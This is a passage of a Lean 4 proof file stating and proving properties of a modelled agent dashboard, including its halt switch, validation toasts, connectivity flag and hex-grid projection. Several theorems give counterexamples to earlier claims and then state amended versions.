    fun i => ?_, fun center j => ?_, rfl, rfl⟩
  · simpa using HexGrid.agentTokenCells_project_agents party center mems 0
  · simp [HexGrid.territory_anchor, Nat.add_mod_right]
  · simp [HexGrid.seat_cell, Nat.add_mod_right]

/-- C2 counterexample: on a successful halt round-trip whose body carries the
server-confirmed status `"OPERATIONAL"`, the dispatcher still writes
`"HALTED"` into the cached snapshot — the server-confirmed status is not the
one applied. -/
theorem halt_ignores_server_confirmed_status :
    (Dashboard.useHaltSystem_mutate (.ok { status := "OPERATIONAL" })
        (some Dashboard.mockGameState)).1.status = "OPERATIONAL"
    ∧ ((Dashboard.useHaltSystem_mutate (.ok { status := "OPERATIONAL" })
        (some Dashboard.mockGameState)).2.map Dashboard.GameState.system_status)
        = some "HALTED"
    ∧ ("HALTED" : String) ≠ "OPERATIONAL" :=
  ⟨rfl, rfl, by decide⟩

/-- C2 (amended): the halt dispatcher is fail-safe toward shutdown — whatever
the transport outcome, the cached status becomes `HALTED` in the same
synchronous mutate step (on failure the catch substitutes the mock
`{status:"HALTED"}` so no server round-trip is needed); the server payload is
never consulted for the cache update. -/
theorem halt_always_marks_cache_halted (g : Dashboard.GameState)
    (transport : Dashboard.FetchOutcome Dashboard.HaltResponse) :
    (Dashboard.useHaltSystem_mutate transport (some g)).2
        = some { g with system_status := "HALTED" }
    ∧ (Dashboard.useHaltSystem_mutate .transportError (some g)).1
        = { status := "HALTED" } :=
  ⟨rfl, rfl⟩

/-- C3: mission assignment validates locally: with any of the three fields
empty, `handleAssign` raises only the validation toast, issues no network
request and leaves the component state untouched; the validation toast is
distinct from the transport-failure toast. -/
theorem assign_mission_validates_locally (st : Dashboard.CitadelState)
    (h : st.selectedAgent = "" ∨ st.selectedRepo = "" ∨ st.missionTask = "") :
    Dashboard.handleAssign st =
      (st, some (.errorToast "Please fill in all fields."), none)
    ∧ Dashboard.Toast.errorToast "Please fill in all fields."
        ≠ Dashboard.assignMission_onError_toast := by
  constructor
  · rw [Dashboard.handleAssign, if_pos h]
  · decide

/-- Witness for C3 at a state with an unset agent select. -/
theorem assign_mission_validates_locally_witness :
    Dashboard.handleAssign
        { selectedAgent := "", selectedRepo := "repo-core", missionTask := "Fix CI" }
      = ({ selectedAgent := "", selectedRepo := "repo-core", missionTask := "Fix CI" },
         some (.errorToast "Please fill in all fields."), none) :=
  (assign_mission_validates_locally _ (Or.inl rfl)).1

/-- C4 at its failing input: the game-state tick suffers a transport failure,
yet `fetchWithFallback` resolves with the mock snapshot, so the query is not
in error and `isConnected` stays `true` — the liveness flag does not become
false when the most recent tick failed, contradicting the claimed
iff. -/
theorem connectivity_flag_true_despite_failed_tick :
    Dashboard.isConnected
        (Dashboard.useQueryTick (Dashboard.gameStateQueryFn .transportError))
        (Dashboard.useQueryTick (Dashboard.graphDataQueryFn (.ok Dashboard.mockGraphData)))
      = true
    ∧ (Dashboard.useQueryTick (Dashboard.gameStateQueryFn .transportError)).data
      = some Dashboard.mockGameState :=
  ⟨rfl, rfl⟩

/-- C5: with the cached status `HALTED`, the page mounts the full-screen
interdiction overlay, the overlay intercepts pointer input to everything
stacked beneath it, and a further activation attempt on the kill switch
dispatches no halt command. -/
theorem halted_overlay_blocks_interaction (gameState : Dashboard.GameState)
    (isHalting : Bool) (h : gameState.system_status = "HALTED") :
    (Dashboard.renderIndex (some gameState) isHalting).interdictionOverlay
        = some Dashboard.systemInterdicted
    ∧ Dashboard.systemInterdicted.fullScreen = true
    ∧ Dashboard.overlayBlocksPointer (Dashboard.renderIndex (some gameState) isHalting) = true
    ∧ Dashboard.clickHaltControl (Dashboard.renderIndex (some gameState) isHalting) = none := by
  have hh : Dashboard.isHaltedOf (some gameState) = true := by
    simp [Dashboard.isHaltedOf, h]
  refine ⟨?_, rfl, ?_, ?_⟩
  · simp [Dashboard.renderIndex, hh]
  · simp [Dashboard.renderIndex, hh, Dashboard.overlayBlocksPointer,
      Dashboard.systemInterdicted]
  · simp [Dashboard.clickHaltControl, Dashboard.renderIndex, hh,
      Dashboard.overlayBlocksPointer, Dashboard.systemInterdicted]

/-- Witness for C5 on the mock snapshot flipped to `HALTED`. -/
theorem halted_overlay_blocks_interaction_witness :
    Dashboard.clickHaltControl
        (Dashboard.renderIndex
          (some { Dashboard.mockGameState with system_status := "HALTED" }) false)
      = none :=
  (halted_overlay_blocks_interaction _ false rfl).2.2.2

/-- C6: projection never raises: an agent class outside the asset table
resolves to the `Default` asset, a territory name outside the palette resolves
to the neutral entry, and every member id of every territory yields a placed
token — the pass completes with one token per member regardless of whether
the id resolves in the party lookup. -/
theorem projection_resolves_all_inputs :
    (∀ agentClass : String, HexGrid.AGENT_ASSET_TEMPLATES.lookup agentClass = none →
        HexGrid.agent_asset agentClass = HexGrid.agent_asset "Default")
    ∧ (∀ name : String, HexGrid.COUNTRY_COLORS.lookup name = none →
        HexGrid.country_color name = "neutral")
    ∧ (∀ s : HexGrid.StateData,
        (HexGrid.agentTokenCells (HexGrid.update_grid s)).length =
          ((s.repositories.getD []).map (fun repo => (repo.swarm.getD []).length)).sum) := by
  refine ⟨fun c h => ?_, fun n h => ?_, fun s => ?_⟩
  · unfold HexGrid.agent_asset
    rw [h]
    rfl
  · unfold HexGrid.country_color
    rw [h]
    rfl
  · rw [HexGrid.update_grid, HexGrid.agentTokenCells_append,
      HexGrid.agentTokenCells_generate_base_grid, List.nil_append,
      HexGrid.agentTokenCells_project_repos_length]

/-- Witness for C6 at an unknown class and an unknown territory name. -/
theorem projection_resolves_all_inputs_witness :
    HexGrid.agent_asset "Necromancer" = HexGrid.agent_asset "Default"
    ∧ HexGrid.country_color "Atlantis" = "neutral" :=
  ⟨projection_resolves_all_inputs.1 "Necromancer" rfl,
   projection_resolves_all_inputs.2.1 "Atlantis" rfl⟩

/-- C7: clear-and-rebuild: a projector pass leaves in `spawned_nodes` exactly
the nodes created by that pass, independently of whatever was spawned before
(so nothing survives a shrink), and a graph render pass replaces the previous
cytoscape instance with one built solely from the current payload. -/
theorem clear_and_rebuild_no_orphans :
    (∀ (st : HexGrid.GridState) (s : HexGrid.StateData),
        (HexGrid.update_grid_scene st s).spawned_nodes = HexGrid.update_grid s)
    ∧ (∀ (st₁ st₂ : HexGrid.GridState) (s : HexGrid.StateData),
        HexGrid.update_grid_scene st₁ s = HexGrid.update_grid_scene st₂ s)
    ∧ (∀ (cy : Option Dashboard.CyInstance) (g : Dashboard.GraphData),
        Dashboard.initGraph cy (some g) = some (Dashboard.cytoscapeFromData g)) :=
  ⟨fun _ _ => rfl, fun _ _ _ => rfl, fun _ _ => rfl⟩

/-- C8: spatial projection is deterministic: two input states carrying the
same territory/agent data (whatever the rest of the snapshot) project to
identical node placements. -/
theorem update_grid_deterministic (s₁ s₂ : HexGrid.StateData)
    (hparty : s₁.party = s₂.party)
    (hrepos : s₁.repositories = s₂.repositories) :
    HexGrid.update_grid s₁ = HexGrid.update_grid s₂ := by
  unfold HexGrid.update_grid
  rw [hparty, hrepos]

/-- Witness for C8: two snapshots differing only in system status project
identically. -/
theorem update_grid_deterministic_witness :
    HexGrid.update_grid
        { system_status := some "OPERATIONAL",
          party := some sampleParty, repositories := some sampleRepos }
      = HexGrid.update_grid
        { system_status := some "HALTED",
          party := some sampleParty, repositories := some sampleRepos } :=
  update_grid_deterministic _ _ rfl rfl

/-- C9 counterexample: the card renders `stats.hp`/`stats.mana` directly as
bar width percentages; at hp 150 and mana −20 the rendered percentages leave
`[0,100]` — no clamping is computed. -/
theorem vitals_clamping_counterexample :
    Dashboard.hpPercent overchargedAgent = 150
    ∧ ¬ Dashboard.hpPercent overchargedAgent ≤ 100
    ∧ Dashboard.manaPercent overchargedAgent = -20
    ∧ ¬ 0 ≤ Dashboard.manaPercent overchargedAgent := by
  refine ⟨rfl, ?_, ?_, ?_⟩
  · norm_num [Dashboard.hpPercent, overchargedAgent]
  · norm_num [Dashboard.manaPercent, overchargedAgent]
  · norm_num [Dashboard.manaPercent, overchargedAgent]

/-- C9 (amended): the card emits the raw vitals as bar width percentages —
`hpPercent` is the hp value and `manaPercent` equals the mana value — so the
rendered percentage lies in `[0,100]` exactly when the input does; no clamp
is applied to out-of-range input. -/
theorem vitals_rendered_unclamped :
    (∀ a : Dashboard.DashAgent,
        Dashboard.hpPercent a = a.stats.hp ∧ Dashboard.manaPercent a = a.stats.mana)
    ∧ (∀ a : Dashboard.DashAgent, 0 ≤ a.stats.hp → a.stats.hp ≤ 100 →
        0 ≤ Dashboard.hpPercent a ∧ Dashboard.hpPercent a ≤ 100)
    ∧ (∀ a : Dashboard.DashAgent, 0 ≤ a.stats.mana → a.stats.mana ≤ 100 →
        0 ≤ Dashboard.manaPercent a ∧ Dashboard.manaPercent a ≤ 100) := by
  have hmana : ∀ a : Dashboard.DashAgent, Dashboard.manaPercent a = a.stats.mana := by
    intro a
    rw [Dashboard.manaPercent]
    exact div_mul_cancel₀ _ (by norm_num)
  refine ⟨fun a => ⟨rfl, hmana a⟩, fun a h0 h1 => ⟨h0, h1⟩, fun a h0 h1 => ?_⟩
  rw [hmana a]
  exact ⟨h0, h1⟩

/-- Witness for C9 (amended) at the in-range mock agent. -/
theorem vitals_rendered_unclamped_witness :
    (0 ≤ Dashboard.hpPercent inRangeAgent ∧ Dashboard.hpPercent inRangeAgent ≤ 100)
    ∧ (0 ≤ Dashboard.manaPercent inRangeAgent ∧ Dashboard.manaPercent inRangeAgent ≤ 100) :=
  ⟨vitals_rendered_unclamped.2.1 inRangeAgent (by norm_num [inRangeAgent])
      (by norm_num [inRangeAgent]),
   vitals_rendered_unclamped.2.2 inRangeAgent (by norm_num [inRangeAgent])
      (by norm_num [inRangeAgent])⟩

/-- C10 counterexample: an agent whose `current_action` key is present but
empty is labelled in `GREEN_YELLOW` — the emphasized (active) color — though
the claim classifies an empty action as idle (muted). -/
theorem idle_color_counterexample :
    HexGrid.agent_label_color emptyActionAgent = .greenYellow
    ∧ HexGrid.LabelColor.greenYellow ≠ HexGrid.LabelColor.yellow
    ∧ emptyActionAgent.current_action = some "" :=
  ⟨rfl, by decide, rfl⟩

/-- C10 (amended): the projector labels an agent in the muted `YELLOW` iff its
`current_action` key is absent or holds exactly the idle phrase `"Standby"`;
any other present value — the empty string included — is labelled in the
emphasized `GREEN_YELLOW`. -/
theorem idle_color_iff_absent_or_standby (agent_info : HexGrid.AgentInfo) :
    HexGrid.agent_label_color agent_info = .yellow
      ↔ (agent_info.current_action = none
          ∨ agent_info.current_action = some "Standby") := by
  cases hc : agent_info.current_action with
  | none => simp [HexGrid.agent_label_color, hc]
  | some s =>
      by_cases hs : s = "Standby"
      · subst hs
        simp [HexGrid.agent_label_color, hc]
      · simp [HexGrid.agent_label_color, hc, hs]
